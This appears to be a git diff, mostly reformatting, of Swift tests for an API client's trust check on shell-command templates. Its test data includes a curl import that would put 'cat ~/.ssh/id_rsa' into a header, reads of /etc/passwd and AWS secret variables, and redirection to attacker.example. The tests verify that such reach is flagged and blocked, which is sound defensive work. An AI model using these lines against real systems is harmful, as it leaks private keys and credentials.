@@ -1,7 +1,8 @@
 import Foundation
 import Testing
-@testable import Workspace
+
 @testable import Formats
+@testable import Workspace
 
 /// `{{command "…"}}`: a shell command's trimmed output (a secret manager's answer), run once
 /// per request, bounded in time and size, masked like a secret, and only from a collection
@@ -12,10 +13,13 @@ import Testing
     private final class Sandbox {
         let folder: URL
         let collectionFile: URL
-        var environment: [String: String] { ["XDG_STATE_HOME": folder.appendingPathComponent("state").path, "PATH": "/usr/bin:/bin"] }
+        var environment: [String: String] {
+            ["XDG_STATE_HOME": folder.appendingPathComponent("state").path, "PATH": "/usr/bin:/bin"]
+        }
 
         init(_ yaml: String) throws {
-            folder = FileManager.default.temporaryDirectory.appendingPathComponent("explorer-command-\(UUID().uuidString)")
+            folder = FileManager.default.temporaryDirectory.appendingPathComponent(
+                "explorer-command-\(UUID().uuidString)")
             try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
             collectionFile = folder.appendingPathComponent("explorer.yaml")
             try Data(yaml.utf8).write(to: collectionFile)
@@ -27,10 +31,12 @@ import Testing
 
         /// Trusts the collection with what it reaches now, as `explorer trust` does.
         func trust() throws {
-            try CollectionTrust(environment: environment).trust(collectionFile, reach: try #require(CollectionReach(loading: collectionFile)))
+            try CollectionTrust(environment: environment).trust(
+                collectionFile, reach: try #require(CollectionReach(loading: collectionFile)))
         }
 
-        func resolve(_ name: String, extra: [String: String] = [:], runsCommands: Bool = true) throws -> ResolvedRequest {
+        func resolve(_ name: String, extra: [String: String] = [:], runsCommands: Bool = true) throws -> ResolvedRequest
+        {
             let collection = try load()
             var resolver = RequestResolver(processEnvironment: environment.merging(extra) { $1 })
             resolver.runsCommands = runsCommands
@@ -73,7 +79,9 @@ import Testing
             try sandbox.resolve("Token")
         } throws: { error in
             let text = String(describing: error)
-            return text.contains("was found, not named") && text.contains("explorer trust \(sandbox.collectionFile.path)") && text.hasPrefix("\(sandbox.collectionFile.path):")
+            return text.contains("was found, not named")
+                && text.contains("explorer trust \(sandbox.collectionFile.path)")
+                && text.hasPrefix("\(sandbox.collectionFile.path):")
         }
         #expect(!FileManager.default.fileExists(atPath: sandbox.folder.appendingPathComponent("runs.txt").path))
         // Revoked trust stops it again.
@@ -87,14 +95,16 @@ import Testing
         try sandbox.trust()
         #expect(throws: Never.self) { try sandbox.resolve("Token") }
         // A pull adds a command: trusted before, it asks again.
-        try Data((Self.yaml + "\n  - name: Pulled\n    path: \"/x/{{command \\\"id\\\"}}\"\n").utf8).write(to: sandbox.collectionFile)
+        try Data((Self.yaml + "\n  - name: Pulled\n    path: \"/x/{{command \\\"id\\\"}}\"\n").utf8).write(
+            to: sandbox.collectionFile)
         #expect(throws: (any Error).self) { try sandbox.resolve("Token") }
         try sandbox.trust()
         #expect(throws: Never.self) { try sandbox.resolve("Token") }
     }
 
     @Test func aCollectionsReachListsCommandsFilesOutsideItsFolderAndVariables() throws {
-        let sandbox = try Sandbox("""
+        let sandbox = try Sandbox(
+            """
             name: Reach
             environments: [{ name: local, base_url: "http://127.0.0.1:1", variables: { key: "{{env.AWS_SECRET_ACCESS_KEY}}" } }]
             endpoints:
@@ -106,19 +116,29 @@ import Testing
                 path: "/c/{{command\\t\\"id\\"}}"
             """)
         let (collection, reach) = try CollectionLoader.loadReaching(from: sandbox.collectionFile)
-        #expect(CollectionReach(collection, folder: sandbox.folder) == reach, "read from the file's tree or from the tree it would be written as")
-        let outside = sandbox.folder.appendingPathComponent("../../../root/.bashrc").standardizedFileURL.resolvingSymlinksInPath().path
-        #expect(Set(reach.references) == [
-            .command("id"), .environmentVariable("AWS_SECRET_ACCESS_KEY"), .file("/etc/hostname"), .file("/etc/passwd"), .file(outside),
-        ])
-        let refusal = try #require(CollectionTrust(environment: sandbox.environment).refusal(for: collection, reaching: reach, at: sandbox.collectionFile))
-        #expect(refusal.contains("reads the file /etc/passwd") && refusal.contains("It sends to local http://127.0.0.1:1") && refusal.contains("explorer trust"))
+        #expect(
+            CollectionReach(collection, folder: sandbox.folder) == reach,
+            "read from the file's tree or from the tree it would be written as")
+        let outside = sandbox.folder.appendingPathComponent("../../../root/.bashrc").standardizedFileURL
+            .resolvingSymlinksInPath().path
+        #expect(
+            Set(reach.references) == [
+                .command("id"), .environmentVariable("AWS_SECRET_ACCESS_KEY"), .file("/etc/hostname"),
+                .file("/etc/passwd"), .file(outside),
+            ])
+        let refusal = try #require(
+            CollectionTrust(environment: sandbox.environment).refusal(
+                for: collection, reaching: reach, at: sandbox.collectionFile))
+        #expect(
+            refusal.contains("reads the file /etc/passwd") && refusal.contains("It sends to local http://127.0.0.1:1")
+                && refusal.contains("explorer trust"))
     }
 
     /// A function's arguments are read as expansion reads them: `env.X` as any argument is the
     /// process environment, so `{{url_encode env.X}}` reaches `X` as `{{env.X}}` does.
     @Test func everyArgumentOfEveryFunctionCountsForTheEnvironmentVariablesReached() throws {
-        let sandbox = try Sandbox("""
+        let sandbox = try Sandbox(
+            """
             name: Arguments
             environments: [{ name: local, base_url: "http://127.0.0.1:1", variables: { signed: "{{hmac_sha256 env.SIGNING_KEY body}}" } }]
             endpoints:
@@ -127,11 +147,15 @@ import Testing
                 headers: { X-B: "{{ base64   env.AWS_SECRET }}", X-H: "{{sha256 \\"env.NOT_READ\\"}}" }
             """)
         let (collection, reach) = try CollectionLoader.loadReaching(from: sandbox.collectionFile)
-        #expect(Set(reach.references) == [
-            .environmentVariable("SECRET_TOKEN"), .environmentVariable("AWS_SECRET"), .environmentVariable("SIGNING_KEY"),
-        ], "a quoted argument is text, not a variable")
+        #expect(
+            Set(reach.references) == [
+                .environmentVariable("SECRET_TOKEN"), .environmentVariable("AWS_SECRET"),
+                .environmentVariable("SIGNING_KEY"),
+            ], "a quoted argument is text, not a variable")
         #expect(CollectionReach(collection, folder: sandbox.folder) == reach, "an import reports the same reach")
-        #expect(CollectionTrust(environment: sandbox.environment).refusal(for: collection, reaching: reach, at: sandbox.collectionFile) != nil)
+        #expect(
+            CollectionTrust(environment: sandbox.environment).refusal(
+                for: collection, reaching: reach, at: sandbox.collectionFile) != nil)
     }
 
     /// Trust covers where the collection sends too: a pull that points a trusted collection's
@@ -147,9 +171,13 @@ import Testing
         let sandbox = try Sandbox(yaml)
         try sandbox.trust()
         let trust = CollectionTrust(environment: sandbox.environment)
-        #expect(trust.isTrusted(sandbox.collectionFile, reach: try CollectionLoader.loadReaching(from: sandbox.collectionFile).reach))
-        for moved in [yaml.replacingOccurrences(of: "127.0.0.1:1", with: "attacker.example"),
-                      yaml + "\n  - { name: Other, path: \"https://attacker.example/x\" }"] {
+        #expect(
+            trust.isTrusted(
+                sandbox.collectionFile, reach: try CollectionLoader.loadReaching(from: sandbox.collectionFile).reach))
+        for moved in [
+            yaml.replacingOccurrences(of: "127.0.0.1:1", with: "attacker.example"),
+            yaml + "\n  - { name: Other, path: \"https://attacker.example/x\" }",
+        ] {
             try Data(moved.utf8).write(to: sandbox.collectionFile)
             let reach = try CollectionLoader.loadReaching(from: sandbox.collectionFile).reach
             #expect(!trust.isTrusted(sandbox.collectionFile, reach: reach))
@@ -170,13 +198,15 @@ import Testing
 
         let linked = try Sandbox(yaml)
         let outside = own.folder.appendingPathComponent(".env").resolvingSymlinksInPath().path
-        try FileManager.default.createSymbolicLink(atPath: linked.folder.appendingPathComponent(".env").path, withDestinationPath: outside)
+        try FileManager.default.createSymbolicLink(
+            atPath: linked.folder.appendingPathComponent(".env").path, withDestinationPath: outside)
         #expect(try CollectionLoader.loadReaching(from: linked.collectionFile).reach.references == [.file(outside)])
     }
 
     /// `tls:` files outside the folder are reached: a client key signs in as its owner.
     @Test func tlsCertificatesAndKeysOutsideTheFolderAreReached() throws {
-        let sandbox = try Sandbox("""
+        let sandbox = try Sandbox(
+            """
             name: TLS
             environments:
               - name: prod
@@ -185,7 +215,8 @@ import Testing
             endpoints: [{ name: Ping, path: /ping }]
             """)
         let (collection, reach) = try CollectionLoader.loadReaching(from: sandbox.collectionFile)
-        let key = URL(fileURLWithPath: ("~/.ssh/me.key" as NSString).expandingTildeInPath).standardizedFileURL.resolvingSymlinksInPath().path
+        let key = URL(fileURLWithPath: ("~/.ssh/me.key" as NSString).expandingTildeInPath).standardizedFileURL
+            .resolvingSymlinksInPath().path
         #expect(Set(reach.references) == [.file("/etc/ssl/me.pem"), .file(key)], "the CA in the folder is its own")
         #expect(CollectionReach(collection, folder: sandbox.folder) == reach)
     }
@@ -193,17 +224,20 @@ import Testing
     /// An `openapi:` file outside the folder is a file it reads; a URL reads nothing of the
     /// machine, is fetched as a request is sent, and is named with where the collection sends.
     @Test func anOpenAPIDocumentOutsideTheFolderIsReachedAndOneNamedByURLIsNamedAsFetched() throws {
-        let outside = try Sandbox("""
+        let outside = try Sandbox(
+            """
             name: Outside
             openapi: ../shared/openapi.yaml
             environments: [{ name: local, base_url: "http://127.0.0.1:1" }]
             endpoints: [{ name: Ping, path: /ping }]
             """)
         let (_, reachOutside) = try CollectionLoader.loadReaching(from: outside.collectionFile)
-        let shared = outside.folder.appendingPathComponent("../shared/openapi.yaml").standardizedFileURL.resolvingSymlinksInPath().path
+        let shared = outside.folder.appendingPathComponent("../shared/openapi.yaml").standardizedFileURL
+            .resolvingSymlinksInPath().path
         #expect(reachOutside.references == [.file(shared)])
 
-        let remote = try Sandbox("""
+        let remote = try Sandbox(
+            """
             name: Remote
             openapi: https://api.example.com/openapi.json
             environments: [{ name: local, base_url: "http://127.0.0.1:1" }]
@@ -211,8 +245,13 @@ import Testing
             """)
         let (collection, reach) = try CollectionLoader.loadReaching(from: remote.collectionFile)
         #expect(reach.references == [.file("/etc/hostname")])
-        let refusal = try #require(CollectionTrust(environment: remote.environment).refusal(for: collection, reaching: reach, at: remote.collectionFile))
-        #expect(refusal.contains("It sends to local http://127.0.0.1:1. It fetches its OpenAPI document from https://api.example.com/openapi.json. Nothing was sent"))
+        let refusal = try #require(
+            CollectionTrust(environment: remote.environment).refusal(
+                for: collection, reaching: reach, at: remote.collectionFile))
+        #expect(
+            refusal.contains(
+                "It sends to local http://127.0.0.1:1. It fetches its OpenAPI document from https://api.example.com/openapi.json. Nothing was sent"
+            ))
     }
 
     @Test func theTrustListIsPrivate() throws {
@@ -221,7 +260,10 @@ import Testing
         let list = sandbox.folder.appendingPathComponent("state/explorer/trusted-collections.json")
         let mode = try FileManager.default.attributesOfItem(atPath: list.path)[.posixPermissions] as? Int
         #expect(mode == 0o600)
-        #expect(try CollectionTrust(environment: sandbox.environment).list().map(\.path) == [sandbox.collectionFile.resolvingSymlinksInPath().path])
+        #expect(
+            try CollectionTrust(environment: sandbox.environment).list().map(\.path) == [
+                sandbox.collectionFile.resolvingSymlinksInPath().path
+            ])
     }
 
     @Test func aPreviewShowsTheCommandAsWrittenAndRunsNothing() throws {
@@ -249,7 +291,8 @@ import Testing
         #expect {
             try sandbox.resolve("Slow", extra: ["EXPLORER_COMMAND_TIMEOUT": "0.3"])
         } throws: { error in
-            String(describing: error).contains("did not finish within 0.3 s (EXPLORER_COMMAND_TIMEOUT raises the limit)")
+            String(describing: error).contains(
+                "did not finish within 0.3 s (EXPLORER_COMMAND_TIMEOUT raises the limit)")
         }
         #expect(Date().timeIntervalSince(started) < 4, "the command and its children were killed")
         #expect {
@@ -260,13 +303,17 @@ import Testing
     }
 
     @Test func anImportNeverBringsACommandThatRuns() throws {
-        let curl = #"curl https://api.example.com/me -H 'X-Key: {{command "cat ~/.ssh/id_rsa"}}' -H 'X-Other: {{ command "id"}}'"#
+        let curl =
+            #"curl https://api.example.com/me -H 'X-Key: {{command "cat ~/.ssh/id_rsa"}}' -H 'X-Other: {{ command "id"}}'"#
         let result = try CurlImporter().importCommand(curl, name: "Me").disablingCommands()
         let endpoint = try #require(result.collection.endpoints.first)
         #expect(endpoint.headers[named: "X-Key"] == #"{{command_from_import "cat ~/.ssh/id_rsa"}}"#)
         #expect(endpoint.headers[named: "X-Other"] == #"{{ command_from_import "id"}}"#)
-        #expect(result.warnings.last?.hasPrefix(#"2 {{command "…"}} calls came with the import and were renamed to {{command_from_import "…"}}"#) == true,
-                "\(result.warnings)")
+        #expect(
+            result.warnings.last?.hasPrefix(
+                #"2 {{command "…"}} calls came with the import and were renamed to {{command_from_import "…"}}"#)
+                == true,
+            "\(result.warnings)")
         let plain = try CurlImporter().importCommand("curl https://api.example.com/me", name: "Me")
         #expect(try plain.disablingCommands().warnings == plain.warnings)
     }
@@ -284,11 +331,17 @@ import Testing
         #expect(imported.headers[named: "X-Tab"] == "{{command_from_import\t\"id\"}}")
         #expect(imported.headers[named: "X-Line"] == "a {{\ncommand_from_import\r\"id\"}} b")
         // `{{ command}}` alone is a call (with no command) to the parser: renamed too.
-        #expect(imported.body == .raw(#"{"x": "{{command_from_import "whoami"}}", "y": "{{commands}}", "z": "{{ command_from_import}}"}"#))
+        #expect(
+            imported.body
+                == .raw(
+                    #"{"x": "{{command_from_import "whoami"}}", "y": "{{commands}}", "z": "{{ command_from_import}}"}"#)
+        )
         #expect(result.warnings.last?.contains(#"("id", "id", "whoami", "")"#) == true, "\(result.warnings)")
         for text in [imported.headers[named: "X-Tab"], imported.headers[named: "X-Line"]] {
-            #expect(Template(text ?? "").segments.allSatisfy { if case .variable(let name) = $0 { TemplateFunction(name) == nil } else { true } })
+            #expect(
+                Template(text ?? "").segments.allSatisfy {
+                    if case .variable(let name) = $0 { TemplateFunction(name) == nil } else { true }
+                })
         }
     }
 }
-
